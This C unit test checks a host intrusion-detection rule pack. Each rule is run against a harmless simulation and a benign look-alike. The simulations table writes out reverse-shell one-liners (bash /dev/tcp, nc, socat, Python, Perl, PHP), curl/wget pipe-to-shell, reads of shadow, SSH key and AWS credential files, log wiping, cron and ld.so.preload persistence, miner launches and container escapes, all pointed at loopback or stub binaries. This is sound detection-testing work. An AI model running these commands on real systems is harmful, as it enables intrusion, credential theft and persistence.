/* test_rulepack.c: every rule of the built-in pack against this host.
 *
 * The real collector (the best source that starts here: eBPF as root)
 * runs in its own thread and feeds a real store file; the test runs,
 * for each rule, a harmless simulation of what the rule looks for and a
 * benign look-alike, then evaluates the engine over the store (the
 * incremental rules over every new event, the scheduled ones once) and
 * asserts that the rule alerted on the simulation's process tree and not
 * on the benign one.
 *
 * Harmless means: reverse shells connect to a loopback port this test
 * listens on (it answers every connection with a tiny HTTP response whose
 * body is "true" and closes); downloads come from that same listener;
 * writes to system files are spelled out on a command line that never
 * runs them ("true || echo ... > /etc/ld.so.preload"); tools that are not
 * installed, or that would change the host (systemctl enable, insmod,
 * journalctl --vacuum, docker), are copies of /bin/true under the tool's
 * name in a scratch directory; everything else (cat /etc/shadow, chmod
 * u+s, strace -p, nsenter -t 1, chroot /proc/1/root) runs for real on
 * files in the scratch directory or with no lasting effect.
 */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <grp.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "collector.h"
#include "engine.h"
#include "store.h"

#define PY "/usr/bin/python3"
#define MAXARG 12

enum { F_NONE = 0, F_PRESTART = 1, F_NOBODY = 2, F_TARGET = 4, F_REPEAT = 8 };

/* One rule's simulation and benign look-alike. "@SIM@" is the scratch
 * directory, "@PORT@" the loopback listener, "@PID@" a process to attach
 * to (F_TARGET). */
struct sim {
	const char *rule;
	const char *pos[MAXARG];
	const char *neg[MAXARG];
	int flags;
	const char *key_pos, *key_neg; /* F_REPEAT: match alerts by dedup key instead */
};

static const struct sim sims[] = {
	{ "DE-RSH-001", { "/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/@PORT@ 0>&1" },
	  { "/bin/bash", "-c", "ls /dev/null" } },
	{ "DE-RSH-002", { "@SIM@/bin/nc", "-e", "/bin/sh", "127.0.0.1", "@PORT@" },
	  { "@SIM@/bin/nc", "-z", "127.0.0.1", "@PORT@" } },
	{ "DE-RSH-003", { "@SIM@/bin/socat", "TCP:127.0.0.1:@PORT@", "EXEC:/bin/sh" },
	  { "@SIM@/bin/socat", "-V" } },
	{ "DE-RSH-004",
	  { PY, "-c", "import socket,os,subprocess;s=socket.socket();s.connect(('127.0.0.1',@PORT@));"
		      "os.dup2(s.fileno(),0);subprocess.call(['/bin/true'])" },
	  { PY, "-c", "import socket;socket.gethostname()" } },
	{ "DE-RSH-005",
	  { "/usr/bin/perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
		"connect(S,sockaddr_in(@PORT@,inet_aton('127.0.0.1')));open(STDIN,'>&S');exec('/bin/true');" },
	  { "/usr/bin/perl", "-e", "my $x = 'socket';" } },
	{ "DE-RSH-006",
	  { "@SIM@/bin/php", "-r", "$sock=fsockopen('127.0.0.1',@PORT@);exec('/bin/sh -i <&3 >&3 2>&3');" },
	  { "@SIM@/bin/php", "-r", "echo 'hello';" } },
	{ "DE-DLX-001", { "/bin/sh", "-c", "curl -s http://127.0.0.1:@PORT@/x | sh" },
	  { "/bin/sh", "-c", "curl -s -o /dev/null http://127.0.0.1:@PORT@/x" } },
	{ "DE-DLX-002", { "/bin/sh", "-c", "wget -q -O- http://127.0.0.1:@PORT@/x | bash" },
	  { "/bin/sh", "-c", "wget -q -O /dev/null http://127.0.0.1:@PORT@/x" } },
	{ "DE-DLX-003",
	  { "/bin/sh", "-c", "curl -s -o @SIM@/dl http://127.0.0.1:@PORT@/x && chmod +x @SIM@/dl && @SIM@/dl" },
	  { "/bin/sh", "-c", "curl -s -o @SIM@/dl2 http://127.0.0.1:@PORT@/x && cat @SIM@/dl2" } },
	{ "DE-B64-001", { "/bin/sh", "-c", "echo dHJ1ZQo= | base64 -d | sh" },
	  { "/bin/sh", "-c", "echo aGVsbG8K | base64 -d" } },
	{ "DE-PATH-001", { "@TMP@/true" }, { "/bin/true" } },
	{ "DE-PATH-002", { "@SHM@/true" }, { "/bin/true" } },
	{ "DE-PATH-003", { "@VARTMP@/true" }, { "/bin/true" } },
	{ "DE-PATH-004", { "@SIM@/.hidden/true" }, { "@SIM@/bin/true" } },
	{ "DE-PATH-005", { "@SIM@/del/sleep", "120" }, { "@SIM@/keep/sleep", "120" }, F_PRESTART },
	{ "DE-PATH-006",
	  { PY, "-c", "import os;fd=os.memfd_create('x');os.write(fd,open('/bin/true','rb').read());"
		      "os.execv('/proc/self/fd/%d'%fd,['x'])" },
	  { PY, "-c", "import os;os.execv('/bin/true',['true'])" } },
	{ "DE-SRV-001", { "@SIM@/bin/nginx", "-c", "sh -c true; true" },
	  { "@SIM@/bin/myapp", "-c", "sh -c true; true" } },
	{ "DE-SRV-002", { "@SIM@/bin/postgres", "-c", "sh -c true; true" },
	  { "@SIM@/bin/myapp", "-c", "sh -c true; true" } },
	{ "DE-PRIV-001", { "@SIM@/bin/sudo", "-l" }, { "@SIM@/bin/sudo", "-V" } },
	{ "DE-PRIV-002", { "@SIM@/bin/pkexec", "/bin/true" }, { "@SIM@/bin/pkexec", "--version" } },
	{ "DE-PRIV-003", { "/bin/chmod", "u+s", "@SIM@/f" }, { "/bin/chmod", "0755", "@SIM@/f" } },
	{ "DE-PRIV-004", { "@SIM@/suid/bash", "-p", "-c", "true" }, { "/bin/bash", "-c", "true" },
	  F_NOBODY },
	{ "DE-PRIV-005", { "/bin/sh", "-c", "true ./linpeas.sh" }, { "/bin/sh", "-c", "true ./peas.sh" } },
	{ "DE-PRIV-006", { "/usr/bin/find", "@SIM@", "-perm", "-4000" },
	  { "/usr/bin/find", "@SIM@", "-name", "x" } },
	{ "DE-CRED-001", { "/bin/sh", "-c", "cat /etc/shadow > /dev/null" },
	  { "/bin/sh", "-c", "cat /etc/hostname > /dev/null" } },
	{ "DE-CRED-002", { "/bin/cat", "@SIM@/.ssh/id_ed25519" }, { "/bin/cat", "@SIM@/.ssh/id_ed25519.pub" } },
	{ "DE-CRED-003", { "/bin/cat", "@SIM@/.bash_history" }, { "/bin/cat", "@SIM@/notes.txt" } },
	{ "DE-CRED-004", { "/bin/cat", "@SIM@/.aws/credentials" }, { "/bin/cat", "@SIM@/.aws/config" } },
	{ "DE-CRED-005", { "/bin/sh", "-c", "true || dd if=/proc/1/mem of=/dev/null" },
	  { "/bin/sh", "-c", "true || dd if=/proc/1/status of=/dev/null" } },
	{ "DE-EVA-001", { "/bin/bash", "-c", "history -c" }, { "/bin/bash", "-c", "history" } },
	{ "DE-EVA-002", { "/bin/bash", "-c", "unset HISTFILE; true" }, { "/bin/bash", "-c", "echo $HISTSIZE" } },
	{ "DE-EVA-003", { "/bin/rm", "-f", "/var/log/de-sim-absent.log" }, { "/bin/rm", "-f", "@SIM@/x.log" } },
	{ "DE-EVA-004", { "@SIM@/bin/journalctl", "--vacuum-time=1s" }, { "@SIM@/bin/journalctl", "-n", "10" } },
	{ "DE-EVA-005", { "/usr/bin/touch", "-r", "/bin/ls", "@SIM@/f" }, { "/usr/bin/touch", "@SIM@/g" } },
	{ "DE-EVA-006", { "@SIM@/bin/systemctl", "stop", "auditd" }, { "@SIM@/bin/systemctl", "status", "auditd" } },
	{ "DE-PERS-001", { "@SIM@/bin/crontab", "@SIM@/cronfile" }, { "@SIM@/bin/crontab", "-l" } },
	{ "DE-PERS-002", { "/bin/sh", "-c", "true || echo '* * * * * root true' > /etc/cron.d/de-sim" },
	  { "/bin/sh", "-c", "ls /etc/cron.d > /dev/null 2>&1; true" } },
	{ "DE-PERS-003", { "@SIM@/bin/systemctl", "enable", "de-sim.service" },
	  { "@SIM@/bin/systemctl", "status", "de-sim.service" } },
	{ "DE-PERS-004", { "/bin/sh", "-c", "echo ssh-ed25519 AAAAC3Nz sim >> @SIM@/.ssh/authorized_keys" },
	  { "/bin/cat", "@SIM@/.ssh/authorized_keys" } },
	{ "DE-PERS-005", { "/bin/sh", "-c", "true || echo @SIM@/x.so > /etc/ld.so.preload" },
	  { "/bin/sh", "-c", "ls /etc/ld.so.conf.d > /dev/null" } },
	{ "DE-PERS-006", { "/bin/sh", "-c", "echo true >> @SIM@/.bashrc" },
	  { "/bin/sh", "-c", "cat @SIM@/.bashrc > /dev/null" } },
	{ "DE-DISC-001", { "/bin/sh", "-c", "id; uname -a; whoami; hostname; true" },
	  { "/bin/sh", "-c", "id; true" } },
	{ "DE-MINE-001", { "@SIM@/bin/xmrig", "-o", "stratum+tcp://127.0.0.1:@PORT@", "-u", "sim", "--donate-level", "1" },
	  { "/bin/sh", "-c", "echo mining report > /dev/null" } },
	{ "DE-BURST-001", { "@SIM@/burst/true" }, { "@SIM@/calm/true" }, F_REPEAT, "@SIM@/burst/true",
	  "@SIM@/calm/true" },
	{ "DE-KMOD-001", { "@SIM@/bin/insmod", "@SIM@/de_sim.ko" }, { "@SIM@/bin/modprobe", "-n", "ext4" } },
	{ "DE-KMOD-002", { "@SIM@/bin/modprobe", "de_sim_module" },
	  { "@SIM@/bin/modprobe", "--show-depends", "ext4" } },
	{ "DE-CONT-001", { "/usr/bin/nsenter", "-t", "1", "-m", "--", "/bin/true" },
	  { "/usr/bin/nsenter", "--version" } },
	{ "DE-CONT-002", { "/usr/sbin/chroot", "/proc/1/root", "/bin/true" },
	  { "/usr/sbin/chroot", "/", "/bin/true" } },
	{ "DE-CONT-003", { "@SIM@/bin/docker", "run", "--privileged", "-v", "/:/host", "alpine" },
	  { "@SIM@/bin/docker", "ps" } },
	{ "DE-DBG-001", { "/usr/bin/strace", "-o", "/dev/null", "-p", "@PID@" },
	  { "/usr/bin/strace", "-o", "/dev/null", "/bin/true" }, F_TARGET },
	{ "DE-DBG-002", { "/bin/sh", "-c", "true || echo 0 > /proc/sys/kernel/yama/ptrace_scope" },
	  { "/bin/sh", "-c", "cat /proc/sys/kernel/hostname > /dev/null" } },
};

#define NSIMS (sizeof(sims) / sizeof(sims[0]))

static char sim_dir[64], tmp_dir[64], shm_dir[64], vartmp_dir[64];
static int port;

/* ---- the loopback listener -------------------------------------------- */

static atomic_int stop_listener;

static void *listener(void *arg)
{
	int ls = *(int *)arg;
	static const char resp[] = "HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\ntrue\n";
	while (!atomic_load(&stop_listener)) {
		struct pollfd p = { .fd = ls, .events = POLLIN };
		if (poll(&p, 1, 100) <= 0)
			continue;
		int c = accept(ls, NULL, NULL);
		if (c < 0)
			continue;
		struct pollfd q = { .fd = c, .events = POLLIN };
		char buf[2048];
		if (poll(&q, 1, 300) > 0 && read(c, buf, sizeof(buf)) < 0)
			(void)0;
		if (write(c, resp, sizeof(resp) - 1) < 0)
			(void)0;
		close(c);
	}
	return NULL;
}

/* ---- the collector thread ----------------------------------------------- */

struct feed {
	struct de_store *store;
	struct de_collector *c;
	atomic_int stop;
	long events, errors, pending;
	int rc;
};

static int feed_sink(const struct de_event *ev, void *ud)
{
	struct feed *f = ud;
	if (de_store_add(f->store, ev) < 0)
		f->errors++;
	f->events++;
	if (++f->pending >= 64) {
		de_store_commit(f->store);
		f->pending = 0;
	}
	return atomic_load(&f->stop) ? -ECANCELED : 0;
}

static void *feed_run(void *arg)
{
	struct feed *f = arg;
	f->rc = de_collector_run(f->c, 600000);
	de_store_commit(f->store);
	return NULL;
}

/* ---- running the simulations -------------------------------------------- */

static char *expand(const char *s, pid_t target)
{
	char out[1024];
	size_t o = 0;
	while (*s && o < sizeof(out) - 64) {
		const char *rep = NULL;
		char num[16];
		size_t skip = 0;
		if (strncmp(s, "@SIM@", 5) == 0)
			rep = sim_dir, skip = 5;
		else if (strncmp(s, "@TMP@", 5) == 0)
			rep = tmp_dir, skip = 5;
		else if (strncmp(s, "@SHM@", 5) == 0)
			rep = shm_dir, skip = 5;
		else if (strncmp(s, "@VARTMP@", 8) == 0)
			rep = vartmp_dir, skip = 8;
		else if (strncmp(s, "@PORT@", 6) == 0)
			snprintf(num, sizeof(num), "%d", port), rep = num, skip = 6;
		else if (strncmp(s, "@PID@", 5) == 0)
			snprintf(num, sizeof(num), "%d", (int)target), rep = num, skip = 5;
		if (rep) {
			o += (size_t)snprintf(out + o, sizeof(out) - o, "%s", rep);
			s += skip;
		} else {
			out[o++] = *s++;
		}
	}
	out[o] = 0;
	return strdup(out);
}

/* Start argv (expanded); returns the child's pid. */
static pid_t spawn(const char *const *argv, int flags, pid_t target)
{
	char *args[MAXARG + 1] = { 0 };
	for (int i = 0; i < MAXARG && argv[i]; i++)
		assert_non_null(args[i] = expand(argv[i], target));
	pid_t p = fork();
	assert_true(p >= 0);
	if (p == 0) {
		int null = open("/dev/null", O_RDWR);
		dup2(null, 0);
		dup2(null, 1);
		dup2(null, 2);
		if ((flags & F_NOBODY) && (setgroups(0, NULL) < 0 || setresgid(65534, 65534, 65534) < 0 ||
					   setresuid(65534, 65534, 65534) < 0))
			_exit(126);
		static char e_path[] = "PATH=/usr/sbin:/usr/bin:/sbin:/bin", e_home[] = "HOME=/root",
			    e_lang[] = "LANG=C";
		char *env[] = { e_path, e_home, e_lang, NULL };
		execve(args[0], args, env);
		_exit(127);
	}
	for (int i = 0; args[i]; i++)
		free(args[i]);
	return p;
}

/* Wait for a child, killing it after 20 s. */
static void reap(pid_t p)
{
	for (int i = 0; i < 2000; i++) {
		int st;
		if (waitpid(p, &st, WNOHANG) == p)
			return;
		usleep(10000);
	}
	kill(p, SIGKILL);
	waitpid(p, NULL, 0);
}

static void sh(const char *fmt, ...) DE_PRINTF(1, 2);
static void sh(const char *fmt, ...)
{
	char cmd[1024];
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(cmd, sizeof(cmd), fmt, ap);
	va_end(ap);
	if (system(cmd) != 0)
		fail_msg("setup failed: %s", cmd);
}

/* The scratch tree: tool stand-ins (copies of /bin/true), a setuid bash,
 * files the simulations read. */
static void make_tree(void)
{
	static const char *const fakes[] = { "nc", "socat", "php", "sudo", "pkexec", "journalctl",
		"systemctl", "crontab", "xmrig", "insmod", "modprobe", "docker", "true", NULL };
	sh("mkdir -p %s/bin %s/.hidden %s/del %s/keep %s/suid %s/.ssh %s/.aws %s/burst %s/calm"
	   " %s %s %s && chmod 0755 %s %s/suid", sim_dir, sim_dir, sim_dir, sim_dir, sim_dir, sim_dir,
	   sim_dir, sim_dir, sim_dir, tmp_dir, shm_dir, vartmp_dir, sim_dir, sim_dir);
	for (int i = 0; fakes[i]; i++)
		sh("cp /bin/true %s/bin/%s", sim_dir, fakes[i]);
	sh("cp /bin/dash %s/bin/nginx && cp /bin/dash %s/bin/postgres && cp /bin/dash %s/bin/myapp",
	   sim_dir, sim_dir, sim_dir);
	sh("cp /bin/true %s/.hidden/true && cp /bin/true %s/burst/true && cp /bin/true %s/calm/true",
	   sim_dir, sim_dir, sim_dir);
	sh("cp /bin/true %s/true && cp /bin/true %s/true && cp /bin/true %s/true", tmp_dir, shm_dir,
	   vartmp_dir);
	sh("cp /bin/sleep %s/del/sleep && cp /bin/sleep %s/keep/sleep", sim_dir, sim_dir);
	sh("cp /bin/bash %s/suid/bash && chown root:root %s/suid/bash && chmod 4755 %s/suid/bash",
	   sim_dir, sim_dir, sim_dir);
	sh("cp /bin/true %s/f && echo 'ssh-ed25519 AAAA sim' > %s/.ssh/authorized_keys"
	   " && echo sim > %s/.ssh/id_ed25519 && echo sim > %s/.ssh/id_ed25519.pub"
	   " && echo 'ls' > %s/.bash_history && echo n > %s/notes.txt && echo k > %s/.aws/credentials"
	   " && echo c > %s/.aws/config && echo '# sim' > %s/.bashrc && echo '' > %s/cronfile",
	   sim_dir, sim_dir, sim_dir, sim_dir, sim_dir, sim_dir, sim_dir, sim_dir, sim_dir, sim_dir);
}

/* ---- alerts ------------------------------------------------------------ */

struct hit {
	char rule[64];
	int32_t pid, ppid, gpid;
	char key[256];
};

struct hits {
	struct hit *v;
	size_t n, cap;
};

static void on_alert(const struct de_alert *a, void *ud)
{
	struct hits *h = ud;
	if (h->n == h->cap) {
		h->cap = h->cap ? 2 * h->cap : 256;
		h->v = realloc(h->v, h->cap * sizeof(*h->v));
		assert_non_null(h->v);
	}
	struct hit *x = &h->v[h->n++];
	memset(x, 0, sizeof(*x));
	snprintf(x->rule, sizeof(x->rule), "%s", a->rule_id);
	x->pid = a->proc.present ? a->proc.pid : -1;
	x->ppid = a->parent.present ? a->parent.pid : -1;
	x->gpid = a->grandparent.present ? a->grandparent.pid : -1;
	snprintf(x->key, sizeof(x->key), "%s", a->dedup_key ? a->dedup_key : "");
}

/* Whether rule alerted on pid's tree (the process, or a child or
 * grandchild of it), or, with key, on that dedup key. */
static bool alerted(const struct hits *h, const char *rule, pid_t pid, const char *key)
{
	for (size_t i = 0; i < h->n; i++) {
		const struct hit *x = &h->v[i];
		if (strcmp(x->rule, rule) != 0)
			continue;
		if (key ? strcmp(x->key, key) == 0 : (x->pid == pid || x->ppid == pid || x->gpid == pid))
			return true;
	}
	return false;
}

static void test_every_rule_fires_on_its_simulation(void **state)
{
	(void)state;
	if (geteuid() != 0)
		skip(); /* the collector's eBPF and netlink sources and the setuid case need root */
	snprintf(sim_dir, sizeof(sim_dir), "/run/de-sim-%d", (int)getpid());
	snprintf(tmp_dir, sizeof(tmp_dir), "/tmp/de-sim-%d", (int)getpid());
	snprintf(shm_dir, sizeof(shm_dir), "/dev/shm/de-sim-%d", (int)getpid());
	snprintf(vartmp_dir, sizeof(vartmp_dir), "/var/tmp/de-sim-%d", (int)getpid());
	make_tree();

	/* The listener for reverse shells and downloads. */
	int ls = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	assert_true(ls >= 0);
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t alen = sizeof(a);
	assert_int_equal(bind(ls, (struct sockaddr *)&a, sizeof(a)), 0);
	assert_int_equal(listen(ls, 64), 0);
	assert_int_equal(getsockname(ls, (struct sockaddr *)&a, &alen), 0);
	port = ntohs(a.sin_port);
	pthread_t lt;
	assert_int_equal(pthread_create(&lt, NULL, listener, &ls), 0);

	/* Processes that must exist before the collector's startup snapshot:
	 * a running program whose file is then deleted, and one kept. */
	pid_t pre_pos[NSIMS] = { 0 }, pre_neg[NSIMS] = { 0 };
	for (size_t i = 0; i < NSIMS; i++)
		if (sims[i].flags & F_PRESTART) {
			pre_pos[i] = spawn(sims[i].pos, 0, 0);
			pre_neg[i] = spawn(sims[i].neg, 0, 0);
		}
	usleep(200000);
	sh("rm -f %s/del/sleep", sim_dir);

	/* Store and collector. */
	char db[128];
	snprintf(db, sizeof(db), "%s/store.db", sim_dir);
	struct de_store_opts so = { .path = db };
	char why[512] = "";
	struct feed f = { 0 };
	f.store = de_store_open(&so, why, sizeof(why));
	if (!f.store)
		fail_msg("store: %s", why);
	struct de_config cfg;
	assert_int_equal(de_config_init(&cfg), 0);
	struct de_collector_opts co = { .cfg = &cfg, .source = DE_SOURCE_AUTO, .sink = feed_sink,
					.sink_ud = &f };
	if (de_collector_open(&co, &f.c, why, sizeof(why)) < 0)
		fail_msg("collector: %s", why);
	print_message("# collector source: %s\n", de_event_source_name(de_collector_kind(f.c)));
	pthread_t ct;
	assert_int_equal(pthread_create(&ct, NULL, feed_run, &f), 0);
	usleep(1500000); /* the startup snapshot */

	pid_t pos[NSIMS], neg[NSIMS];
	for (size_t i = 0; i < NSIMS; i++) {
		const struct sim *s = &sims[i];
		if (s->flags & F_PRESTART) {
			pos[i] = pre_pos[i];
			neg[i] = pre_neg[i];
			continue;
		}
		pid_t target = 0;
		if (s->flags & F_TARGET)
			target = spawn((const char *const[]){ "/bin/sleep", "1", NULL }, 0, 0);
		int reps = (s->flags & F_REPEAT) ? 60 : 1;
		for (int r = 0; r < reps; r++) {
			reap(pos[i] = spawn(s->pos, s->flags, target));
			if (r < 10)
				reap(neg[i] = spawn(s->neg, s->flags, target));
		}
		if (target)
			reap(target);
	}
	usleep(500000); /* the last events through the ring buffer */
	atomic_store(&f.stop, 1);
	reap(spawn((const char *const[]){ "/bin/true", NULL }, 0, 0));
	pthread_join(ct, NULL);
	for (size_t i = 0; i < NSIMS; i++)
		if (sims[i].flags & F_PRESTART) {
			kill(pre_pos[i], SIGKILL);
			kill(pre_neg[i], SIGKILL);
			waitpid(pre_pos[i], NULL, 0);
			waitpid(pre_neg[i], NULL, 0);
		}
	atomic_store(&stop_listener, 1);
	pthread_join(lt, NULL);
	close(ls);
	print_message("# %ld events stored (%ld store errors)\n", f.events, f.errors);
	assert_int_equal(f.errors, 0);

	/* The engine with the built-in pack over what was collected. */
	struct hits h = { 0 };
	struct de_engine_opts eo = { .store = f.store, .store_path = db, .on_alert = on_alert, .ud = &h };
	struct de_engine *e = NULL;
	if (de_engine_open(&eo, &e, why, sizeof(why)) < 0)
		fail_msg("engine: %s", why);
	assert_true(de_engine_on_commit(e, de_store_last_event_id(f.store)) > 0);
	assert_true(de_engine_tick(e, (int64_t)time(NULL) * 1000000000LL) >= 0);

	/* Every rule of the pack has a simulation here. */
	size_t missing = 0;
	for (size_t r = 0; r < de_engine_rule_count(e); r++) {
		struct de_engine_rule_info info;
		de_engine_rule_info(e, r, &info);
		bool found = false;
		for (size_t i = 0; i < NSIMS; i++)
			found |= strcmp(sims[i].rule, info.rule->id) == 0;
		if (!found) {
			print_message("# rule %s has no simulation\n", info.rule->id);
			missing++;
		}
	}
	size_t failed = 0;
	for (size_t i = 0; i < NSIMS; i++) {
		const struct sim *s = &sims[i];
		char *kp = s->key_pos ? expand(s->key_pos, 0) : NULL;
		char *kn = s->key_neg ? expand(s->key_neg, 0) : NULL;
		bool fired = alerted(&h, s->rule, pos[i], kp);
		bool benign = alerted(&h, s->rule, neg[i], kn);
		if (!fired || benign)
			failed++;
		print_message("# %-12s simulation %s, benign %s\n", s->rule,
			      fired ? "alerted" : "NOT ALERTED", benign ? "ALERTED" : "quiet");
		free(kp);
		free(kn);
	}
	de_engine_close(e);
	de_store_close(f.store);
	de_collector_close(f.c);
	de_config_free(&cfg);
	free(h.v);
	sh("rm -rf %s %s %s %s", sim_dir, tmp_dir, shm_dir, vartmp_dir);
	assert_int_equal(missing, 0);
	assert_int_equal(failed, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_every_rule_fires_on_its_simulation),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
